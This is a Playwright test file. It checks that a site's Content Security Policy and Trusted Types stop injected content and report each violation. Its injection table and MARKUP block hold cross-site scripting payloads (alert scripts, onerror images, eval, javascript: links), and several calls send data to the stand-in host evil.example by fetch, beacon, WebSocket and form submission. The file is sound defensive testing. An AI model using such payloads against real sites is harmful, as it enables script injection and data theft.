"""Where something is put into a page all the same, the pages' policy stops it, and says what it stopped."""

from typing import Any

import pytest
from playwright.async_api import Page, Route

from tests.stories.conftest import NewPage
from tests.stories.servers import House
from tests.stories.test_hostile_text import REPORTS
from tests.stories.waiting import until

pytestmark = pytest.mark.anyio

TYPES = "require-trusted-types-for"
INJECTIONS: dict[str, tuple[str, str]] = {
    "a script in a drawing": (TYPES, "add('script', {}, svg).append('alert(1)'); document.body.append(added);"),
    "a script made of text": (TYPES, "add('script', { text: 'alert(1)' });"),
    "a script from elsewhere": (TYPES, "add('script', { src: `${elsewhere}/x.js` });"),
    "markup": (TYPES, "document.body.innerHTML = '<img src=x onerror=alert(1)>';"),
    "a handler": (TYPES, "document.body.setAttribute('onclick', 'alert(1)');"),
    "eval": (TYPES, "(0, eval)('alert(1)');"),
    "a text for a timer": (TYPES, "setTimeout('alert(1)');"),
    "a policy of its own": ("trusted-types", "trustedTypes.createPolicy('default', {});"),
    "an inline style": ("style-src-attr", "document.body.setAttribute('style', `background: url(${elsewhere})`);"),
    "a style sheet from elsewhere": (
        "style-src-elem",
        "add('link', { rel: 'stylesheet', href: `${elsewhere}/x.css` });",
    ),
    "an image from elsewhere": ("img-src", "new Image().src = `${elsewhere}/pixel`;"),
    "an image in the address": ("img-src", "new Image().src = 'data:image/gif;base64,R0lGODlhAQABAAAAACw=';"),
    "a frame": ("frame-src", "add('iframe', { src: elsewhere });"),
    "a plug-in": (TYPES, "add('object', { data: elsewhere });"),
    "a call to elsewhere": ("connect-src", "fetch(elsewhere).catch(() => {});"),
    "a beacon": ("connect-src", "navigator.sendBeacon(elsewhere, 'x');"),
    "a socket to elsewhere": ("connect-src", "new WebSocket('wss://evil.example/');"),
    "a base": ("base-uri", "add('base', { href: elsewhere });"),
    "a form for elsewhere": ("form-action", "add('form', { action: elsewhere }).submit();"),
}
# In a task of its own: what a debugger evaluates is let through by the policy.
INJECT = """
const elsewhere = "https://evil.example/";
const svg = "http://www.w3.org/2000/svg";
globalThis.added = null;
const add = (tag, members, space) => {
  added = space ? document.createElementNS(space, tag) : document.createElement(tag);
  Object.assign(added, members);
  if (!space) document.body.append(added);
  return added;
};
setTimeout(() => { try { %s } catch { } });
"""


async def asked_elsewhere(page: Page) -> list[str]:
    """What leaves the browser for elsewhere, policy and all."""
    asked: list[str] = []

    async def note(route: Route) -> None:
        asked.append(route.request.url)
        await route.abort()

    await page.route("https://evil.example/**", note)
    return asked


async def test_what_is_put_into_a_page_all_the_same_is_stopped_and_reported(house: House, open_page: NewPage) -> None:
    page = await open_page(house)
    asked = await asked_elsewhere(page)
    await page.add_init_script(REPORTS)
    for kind, (directive, code) in INJECTIONS.items():
        await page.goto("/about")
        assert await page.evaluate("reports") == []
        await page.evaluate(f"() => {{ {INJECT % code} }}")

        async def reported() -> Any:
            return await page.evaluate("reports.length")

        await until(reported)
        reports = await page.evaluate("reports")
        assert {each.split(" ")[0] for each in reports} == {directive}, (kind, reports)
        assert await page.evaluate("ran") == 0, kind
    assert asked == []


MARKUP = """
<script>alert(1)</script>
<img src=nothing onerror=alert(1)>
<img src=https://evil.example/pixel>
<p style="color: red"></p>
<a id=bad href="javascript:alert(1)">on</a>
<iframe srcdoc="<script>parent.ran += 1</script>"></iframe>
</body>
"""


async def test_markup_that_comes_with_the_page_itself_runs_nothing_either(house: House, open_page: NewPage) -> None:
    """As if a template had let it through: the headers are the server's own."""

    async def inject(route: Route) -> None:
        answer = await route.fetch()
        await route.fulfill(response=answer, body=(await answer.text()).replace("</body>", MARKUP))

    page = await open_page(house)
    asked = await asked_elsewhere(page)
    await page.add_init_script(REPORTS)
    await page.route("**/about", inject)
    await page.goto("/about")
    wanted = ["script-src-elem inline", "script-src-attr inline", "img-src https", "style-src-attr inline"]

    async def reported() -> bool:
        reports: list[str] = await page.evaluate("reports")
        return {each for each in wanted if any(report.startswith(each) for report in reports)} == set(wanted)

    await until(reported)
    before: int = await page.evaluate("reports.length")
    await page.locator("#bad").dispatch_event("click")

    async def another() -> bool:
        count: int = await page.evaluate("reports.length")
        return count > before

    await until(another)
    assert await page.evaluate("ran") == 0
    assert asked == []
